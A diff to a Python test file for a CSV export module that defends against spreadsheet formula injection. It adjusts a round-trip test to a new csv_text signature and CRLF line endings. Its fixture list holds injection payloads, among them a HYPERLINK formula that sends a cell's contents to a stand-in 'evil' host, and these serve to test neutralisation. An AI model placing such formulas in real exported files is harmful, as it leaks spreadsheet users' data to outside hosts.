@@ -9,7 +9,7 @@ from pathlib import Path
 
 import pytest
 
-from borderlink.csv_export import SafeCsvWriter, csv_text, neutral_cell
+from borderlink.csv_export import SafeCsvWriter, csv_text, dict_rows, neutral_cell
 
 SRC = Path(__file__).resolve().parents[1] / "src" / "borderlink"
 HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
@@ -30,8 +30,8 @@ def test_writer_and_text_round_trip_the_neutralised_cells() -> None:
     buffer = io.StringIO()
     SafeCsvWriter(buffer).writerows([HOSTILE])
     assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'" + v for v in HOSTILE]
-    text = csv_text([{"name": "=1+1", "n": -1}], ["name", "n"])
-    assert text == "name,n\n'=1+1,-1\n"
+    text = csv_text(["name", "n"], dict_rows(["name", "n"], [{"name": "=1+1", "n": -1}]))
+    assert text == "name,n\r\n'=1+1,-1\r\n"
 
 
 def test_no_module_but_csv_export_builds_a_csv_writer() -> None:
